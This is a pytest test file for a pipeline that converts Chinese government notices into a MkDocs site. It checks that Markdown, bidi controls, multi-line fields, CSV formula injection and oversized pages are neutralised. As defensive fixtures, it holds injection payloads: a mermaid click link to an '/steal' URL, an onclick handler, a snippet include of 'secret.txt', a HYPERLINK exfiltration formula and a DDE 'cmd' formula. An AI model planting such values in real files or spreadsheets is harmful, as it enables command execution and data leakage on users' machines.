"""Hostile text (issue #17, part A): the text of a source and of its fields is only ever text.

Every hostile file is generated here. The Markdown of a page is rendered by Python-Markdown with
the extensions and settings of the site's own mkdocs.yml, as MkDocs renders it; the export, the
sidecar and `add` are run for real. How long a pathological source takes is measured by
`python -m scripts.bench.hostile` (a benchmark, not a test); here, that it is refused when it
is past a budget, with one line naming the file.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import markdown
import pytest
import yaml
from bs4 import BeautifulSoup

from scripts.archive.documents import Archive
from scripts.core.errors import SourceError
from scripts.ingest import html_source
from scripts.ingest.anchors import assign_anchors
from scripts.ingest.convert import convert_bytes, convert_file, convert_text
from scripts.ingest.decode import decode_bytes
from scripts.ingest.sidecar import parse_sidecar
from scripts.pages import export
from scripts.pages.render import escape, render
from scripts.pages.web import plain_text

from .conftest import ROOT
from .maintainer import built_project, cli, one_error_line, snapshot

# Lines that are Markdown (or an extension's) syntax, each a paragraph of its own in the source.
# The heading syntax `# …` is left out: a scrape's own Markdown heading is read as a heading on
# purpose (ingest/structure.py), and `**` around text as the scrape's bold.
MARKUP_LINES = [
    "~~~mermaid",
    "flowchart LR",
    "  a[点击] --> b",
    'click a "https://example.com/steal"',
    "~~~",
    "```mermaid",
    "```",
    "~~~~ {.python}",
    "````",
    "~~~",
    "::: note",
    '!!! warning "注意"',
    "??? info",
    "/// details",
    ":::",
    '{: .danger onclick="pwned()" }',
    "{#fake-anchor}",
    "文字{: #s1-p1 }",
    "<div markdown>粗体</div>",
    "<b>粗</b>&amp;&#126;",
    "&lt;script&gt;",
    "[链接](https://example.com)",
    "![图片](https://example.com/x.png)",
    "<https://example.com>",
    "[参考]: https://example.com",
    "[^1]: 脚注",
    "脚注引用[^1]",
    "| 甲 | 乙 |",
    "|---|---|",
    "| 丙 | 丁 |",
    "======",
    "------",
    "***",
    "___",
    "> 引用",
    "- 列表",
    "+ 列表",
    "* 列表",
    "1. 列表",
    "2024. 年份",
    "[TOC]",
    "反斜杠\\",
    "`代码`",
    "*强调*",
    "_强调_",
    "~~删除~~",
    "==标记==",
    "^^插入^^",
    "++Ctrl++",
    "$x^2$",
    ":smile:",
    '--8<-- "secret.txt"',
]


@pytest.fixture(scope="module")
def site_markdown():
    """Python-Markdown configured as the site's mkdocs.yml configures MkDocs."""
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    return markdown.Markdown(
        extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"]
    )


def html_of(site_markdown, page: str) -> BeautifulSoup:
    body = page.split("\n---\n", 1)[1]
    html = BeautifulSoup(site_markdown.reset().convert(body), "html.parser")
    for permalink in html.select("a.headerlink"):  # the toc extension's ¶ after each heading
        permalink.decompose()
    return html


def hostile_text(lines: list[str]) -> str:
    head = "某县人民政府关于加强县域经济工作的通知\n某政发〔2024〕9号\n\n各乡镇人民政府：\n\n一、总体要求\n\n"
    return head + "\n\n".join(lines) + "\n\n某县人民政府\n2024年6月1日\n"


def folded(text: str) -> str:
    return "".join(text.split())


def test_markdown_syntax_in_the_text_stays_text_on_the_page(site_markdown):
    doc = convert_text(hostile_text(MARKUP_LINES), Path("hostile-markup.txt"))
    html = html_of(site_markdown, render(doc))
    # only what the pipeline itself writes: the title, headings of numbered sections ("1. 列表" is
    # one), paragraphs with their anchors, a bold run-in head, a heading's permalink
    pipeline_made = {"h1", "h2", "h3", "h4", "p", "strong", "a"}
    tags = {tag.name for tag in html.find_all(True)}
    assert tags <= pipeline_made, f"markup made from text: {tags - pipeline_made}"
    assert not html.find("a", href=lambda href: href and not href.startswith("#")), (
        "a link made from text"
    )
    assert not html.select(".mermaid, pre, code, table, ol, ul, blockquote, hr, img, sup, div")
    assert not html.find(id="fake-anchor") and not html.find(class_="danger")
    shown = folded(html.get_text())
    for line in MARKUP_LINES:
        assert folded(line) in shown, f"{line!r} is not shown as written"
    # every paragraph keeps its own anchor: nothing swallowed the ones after it
    anchors = [b.anchor for b in doc.blocks if b.anchor and b.kind != "heading"]
    assert all(html.find(id=anchor) is not None for anchor in anchors)


@pytest.mark.parametrize(
    "line",
    [
        "~~~mermaid",
        "```mermaid",
        ":::note",
        "!!! note",
        "======",
        "- 列表",
        "| 甲 | 乙 |",
        "1. 列表",
        "{: .x }",
        "<b>x</b>",
    ],
)
def test_a_title_that_is_markup_stays_text_in_headings_and_lists(site_markdown, line):
    title = f"{line}关于加强县域经济工作的通知"
    sidecar = {"overrides": {"title": title}}
    doc = convert_text(
        hostile_text(["推进县域经济高质量发展。"]), Path("hostile-title.txt"), sidecar
    )
    html = html_of(site_markdown, render(doc))
    assert html.h1.get_text() == title
    assert not html.select(".mermaid, pre, code, table, ol, ul, div, b")
    # the same escape in a list item and a table cell (the browse and target pages use it)
    listed = BeautifulSoup(
        site_markdown.reset().convert(
            f"- [{escape(title)}](x.md)\n\n| {escape(title)} | 2 |\n| --- | --- |"
        ),
        "html.parser",
    )
    assert listed.a.get_text() == title
    assert [td.get_text() for td in listed.select("td")] == [title, "2"] or [
        th.get_text() for th in listed.select("th")
    ] == [title, "2"]


def test_a_pipe_in_a_table_cell_stays_in_its_cell(site_markdown):
    html = BeautifulSoup(
        site_markdown.reset().convert(f"| {escape('甲|乙')} | 丙 |\n| --- | --- |\n| 1 | 2 |"),
        "html.parser",
    )
    assert [th.get_text() for th in html.select("th")] == ["甲|乙", "丙"]


def test_search_and_feed_text_hold_the_markup_lines_as_written():
    doc = convert_text(hostile_text(MARKUP_LINES), Path("hostile-markup.txt"))
    text = folded(plain_text(render(doc).split("\n---\n", 1)[1]))
    for line in MARKUP_LINES:
        assert folded(line) in text, f"{line!r} is not in the search and feed text"


# --- fields: one line, no bidi controls -----------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "衡南县方案\n~~~mermaid\nflowchart LR\n~~~",
        "衡南县\r方案",
        "衡南县\u2028方案",
        "衡南县\x85方案",
        "衡南\u202e县方案",
        "衡南县\u2066方案\u2069",
    ],
)
def test_a_sidecar_field_on_more_than_one_line_or_with_bidi_controls_is_refused(value):
    content = (
        f"overrides:\n  title: {json.dumps(value)}\n"  # YAML's double quotes take JSON's escapes
    )
    with pytest.raises(SourceError) as refused:
        parse_sidecar(content, Path("sources/x.yml"))
    message = str(refused.value)
    assert "\n" not in message and message.startswith("sources/x.yml:2: title")


def test_add_refuses_a_multi_line_title_and_changes_nothing(tmp_path):
    project = built_project(tmp_path / "project")
    raw = tmp_path / "notice.txt"
    raw.write_text(hostile_text(["推进县域经济高质量发展。"]), encoding="utf-8")
    before = snapshot(project)
    result = cli(
        "add",
        str(raw),
        "--root",
        str(project),
        "--date",
        "2024-06-01",
        "--title",
        '某县方案\n```mermaid\nflowchart LR\n  a --> b\n  click a "https://example.com"\n```',
    )
    line = one_error_line(result, str(raw))
    assert "title" in line and "one line" in line
    assert snapshot(project) == before


def test_bidi_controls_in_the_text_are_removed_and_reported():
    text = hostile_text(["推进\u202e县域经济\u202c高质量发展。"]).replace(
        "某县人民政府关于", "某县\u202e人民政府关于", 1
    )
    doc = convert_text(text, Path("bidi.txt"))
    page = render(doc)
    assert "\u202e" not in doc.meta["title"] and "\u202e" not in page and "\u202c" not in page
    rules = [r.rule for r in doc.removed]
    assert "bidi-control U+202E" in rules and "bidi-control U+202E U+202C" in rules
    assert [r.line for r in doc.removed if r.rule.startswith("bidi")] == [1, 8]


def test_bidi_controls_in_a_page_s_metadata_table_are_removed_and_reported():
    page = (
        "<html><body><table><tr><td>发文机关：</td><td>某县\u202e人民政府</td></tr>"
        "<tr><td>标题：</td><td>某县关于加强\u2028县域经济工作的通知</td></tr></table>"
        "<p>某县关于加强县域经济工作的通知</p><p>各乡镇人民政府：</p><p>推进县域经济高质量发展。</p></body></html>"
    )
    doc = convert_bytes(page.encode("utf-8"), Path("bidi.html"), {})
    assert doc.meta["issuer"] == "某县人民政府"
    assert "\u2028" not in doc.meta["title"]  # a page's table cell is folded as it is read
    assert any("issuer" in w and "U+202E" in w for w in doc.warnings)


def test_a_title_with_u0085_survives_the_front_matter_or_is_reported():
    doc = convert_text(
        hostile_text(["推进县域经济高质量发展。"]).replace("县域经济工作", "县域\x85经济工作", 1),
        Path("nel.txt"),
    )
    front = yaml.safe_load(render(doc).split("\n---\n", 1)[0].removeprefix("---\n"))
    assert (
        front["title"] == doc.meta["title"]
    )  # what the site reads back is what the pipeline wrote
    assert any("U+0085" in w for w in doc.warnings)
    assert "\x85" in render(doc).split("\n---\n", 1)[1]  # the source's line, as it is, on the page


# --- CSV cells a spreadsheet would evaluate -------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://example.com/?"&A1,"点击查看")关于县域经济的通知',
    "issuer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "region": "+衡南县",
    "doc_number": "-2+3号",
}


def test_documents_csv_neutralises_formulas_and_json_keeps_them():
    doc = convert_text(hostile_text(["推进县域经济高质量发展。"]), Path("formula.txt"))
    doc.meta.update(FORMULAS)
    archive = Archive(root=ROOT)
    archive.documents = [doc]
    files = export.export_files(archive)
    row = next(csv.DictReader(io.StringIO(files["export/documents.csv"].lstrip("\ufeff"))))
    for key, value in FORMULAS.items():
        assert row[key] == "'" + value, key
    data = json.loads(files["export/archive.json"])
    assert {k: data["documents"][0][k] for k in FORMULAS} == FORMULAS
    assert "单引号" in files["export/index.md"]  # the download page says what the quote is


def test_a_number_stays_a_number_in_csv():
    assert export.spreadsheet_safe("-3.5") == "-3.5" and export.spreadsheet_safe("+12") == "+12"
    assert export.spreadsheet_safe("-3.5+A1") == "'-3.5+A1"
    assert (
        export.spreadsheet_safe("\t=1+1") == "'\t=1+1"
        and export.spreadsheet_safe("\r=1") == "'\r=1"
        and export.spreadsheet_safe("衡南县") == "衡南县"
    )


# --- budgets -----------------------------------------------------------------------------------


def nested_divs(depth: int) -> bytes:
    return (
        "<html><body><p>某县关于加强县域经济工作的通知</p>"
        + "<div>字" * depth
        + "</div>" * depth
        + "</body></html>"
    ).encode("utf-8")


def test_a_page_nested_past_the_budget_is_refused_in_one_line(tmp_path):
    deep = tmp_path / "deep.html"
    deep.write_bytes(nested_divs(html_source.MAX_DEPTH + 50))
    with pytest.raises(SourceError) as refused:
        convert_file(deep, {})
    message = str(refused.value)
    assert message.startswith(
        f"{deep}:1: nests its elements more than {html_source.MAX_DEPTH} deep"
    )
    assert "\n" not in message


def test_the_page_of_50000_nested_divs_is_refused_by_add(tmp_path):
    project = built_project(tmp_path / "project")
    deep = tmp_path / "deep.html"
    deep.write_bytes(nested_divs(50_000))
    before = snapshot(project)
    result = cli("add", str(deep), "--root", str(project), "--date", "2024-06-01")
    assert "nests its elements" in one_error_line(result, str(deep))
    assert snapshot(project) == before


def test_a_text_past_the_budget_is_refused_in_one_line(tmp_path):
    from scripts.ingest import convert

    big = tmp_path / "big.txt"  # 49 MB: under the 50 MB limit of a file, far past any document
    text = "某县关于加强县域经济工作的通知\n" + "推进县域经济高质量发展。\n" * 1_300_000
    big.write_text(text, encoding="utf-8")
    with pytest.raises(SourceError) as refused:
        convert_file(big, {})
    assert str(refused.value).startswith(
        f"{big}: has {len(text):,} characters of text, over the budget of {convert.MAX_CHARS:,}"
    )
    one_line = tmp_path / "one-line.txt"  # a scrape that lost its line ends
    one_line.write_text(
        "某县关于加强县域经济工作的通知\n" + "推进县域经济高质量发展。" * 100_000, encoding="utf-8"
    )
    with pytest.raises(SourceError) as refused:
        convert_file(one_line, {})
    assert str(refused.value).startswith(f"{one_line}:2: has a line of 1,200,000 characters")


def test_a_page_past_the_budget_is_refused_unread(tmp_path):
    page = tmp_path / "big.html"
    page.write_text(
        "<html><body><p>某县关于加强县域经济工作的通知</p>"
        + "<p>推进县域经济高质量发展。</p>" * 500_000
        + "</body></html>",
        encoding="utf-8",
    )
    with pytest.raises(SourceError) as refused:
        convert_file(page, {})
    assert str(refused.value).startswith(f"{page}: is a page of ")
    assert f"over the budget of {html_source.MAX_PAGE_CHARS:,}" in str(refused.value)


def test_a_page_nested_up_to_the_budget_still_converts():
    doc = convert_bytes(nested_divs(html_source.MAX_DEPTH - 10), Path("deep.html"), {})
    assert doc.meta["title"] == "某县关于加强县域经济工作的通知"
    assert doc.body_text().count("字") == html_source.MAX_DEPTH - 10


def text_with_inserted_breaks(soup: BeautifulSoup) -> str:
    """How page_text read a page before: a tab and line breaks inserted into the tree (each insert
    looks the element up among its siblings: quadratic in a page of 20,000 paragraphs)."""
    body = soup.body or soup
    for cell in body.find_all(["td", "th"]):
        cell.insert_after("\t")
    for tag in body.find_all(html_source.BLOCK_TAGS):
        tag.insert_before("\n")
        tag.insert_after("\n")
    text = body.get_text().replace("\r\n", "\n").replace("\r", "\n")
    return re.sub(r"[ \t\u3000\u00a0]*\n[ \t\u3000\u00a0]*", "\n", text)


@pytest.mark.parametrize(
    "page",
    [
        (
            "<html><body><h1>标题</h1><div>甲<span>乙</span><br>丙<p>丁</p></div><table><tr><td>第1项</td><td> 1 </td></tr>"
            "<tr><th>第2项</th><td><p>2</p></td></tr></table><ruby>汉<rt>han</rt></ruby>　\r\n尾</body></html>"
        ),
        "<div>无 body<ul><li>一</li><li>二<b>三</b></li></ul></div>文字",
        *[
            path.read_bytes()
            for path in sorted((Path(__file__).parent / "fixtures").glob("*.html"))
        ],
    ],
)
def test_page_text_reads_a_page_as_before(page):
    """page_text walks lxml's tree of the page once: the text beautifulsoup4's tree gave when line
    breaks were inserted into it (the reader before the parser became lxml's)."""
    if isinstance(page, bytes):
        page = decode_bytes(page, Path("page.html"), html_source.declared_charset(page))
    tree = html_source.parse_page(page, Path("page.html"))
    html_source.drop_invisible(tree)  # what bs4's get_text() never read: scripts, styles, comments
    assert html_source.page_text(tree) == text_with_inserted_breaks(
        BeautifulSoup(page, "html.parser")
    )


def test_a_heading_repeated_thousands_of_times_gets_numbered_anchors():
    from scripts.core.model import HEADING, Block

    blocks = [Block(HEADING, "附则", level=1) for _ in range(3000)]
    assign_anchors(blocks)
    anchors = [b.anchor for b in blocks]
    assert (
        len(set(anchors)) == 3000
        and anchors[1] == anchors[0] + "-2"
        and anchors[-1] == anchors[0] + "-3000"
    )


def test_add_converts_the_new_file_once(tmp_path, monkeypatch):
    from scripts.ingest import convert
    from scripts.maintain.add import add

    project = built_project(tmp_path / "project")
    raw = tmp_path / "notice.txt"
    raw.write_text(hostile_text(["推进县域经济高质量发展。"]), encoding="utf-8")
    converted: list[str] = []
    real = convert.convert_bytes

    def counting(data, path, sidecar=None):
        converted.append(Path(path).name)
        return real(data, path, sidecar)

    monkeypatch.setattr(convert, "convert_bytes", counting)
    monkeypatch.setenv("ARCHIVE_JOBS", "1")  # every conversion in this process, where it is counted
    target = add(
        project,
        raw,
        url="https://www.example.gov.cn/a.html",
        retrieved="2025-01-20",
        out=io.StringIO(),
    )
    assert converted.count(raw.name) + converted.count(target.name) == 1
    # and the page is what converting the file in sources/ gives
    rebuilt = cli("build", "--root", str(project), "--no-cache")
    assert rebuilt.returncode == 0, rebuilt.stderr
    assert "0 files changed" in rebuilt.stderr


# --- a first line that is not a title ----------------------------------------------------------

UNTITLED = (
    "-2+3=1，推进县域经济高质量发展，各乡镇要高度重视。\n衡政发〔2024〕3号\n\n各乡镇人民政府：\n\n"
    "一、总体要求\n\n按照衡政发〔2024〕3号的要求推进县域经济高质量发展。\n\n衡南县人民政府\n2024年6月1日\n"
)


def test_add_refuses_a_document_whose_title_it_cannot_find_and_says_how(tmp_path):
    project = built_project(tmp_path / "project")
    raw = tmp_path / "untitled.txt"
    raw.write_text(UNTITLED, encoding="utf-8")
    before = snapshot(project)
    line = one_error_line(cli("add", str(raw), "--root", str(project)), str(raw))
    assert "no title" in line and "--title" in line and "--doc-number" in line
    assert snapshot(project) == before
    # given them, the page has its title and its own 文号 is not a document the archive lacks
    result = cli(
        "add",
        str(raw),
        "--root",
        str(project),
        "--title=-2+3产业集群培育行动方案",
        "--doc-number",
        "衡政发〔2024〕3号",
    )
    assert result.returncode == 0, result.stderr
    added = [
        p
        for p in (project / "docs" / "doc").glob("*.md")
        if "衡政发〔2024〕3号" in p.read_text(encoding="utf-8")
    ]
    assert len(added) == 1 and "\n# \\-2+3产业集群培育行动方案\n" in added[0].read_text(
        encoding="utf-8"
    )
    wanted = "".join(p.read_text(encoding="utf-8") for p in (project / "docs").rglob("wanted*.md"))
    wanted += "".join(
        p.read_text(encoding="utf-8") for p in (project / "docs" / "wanted").glob("*.md")
    )
    assert "衡政发〔2024〕3号" not in wanted
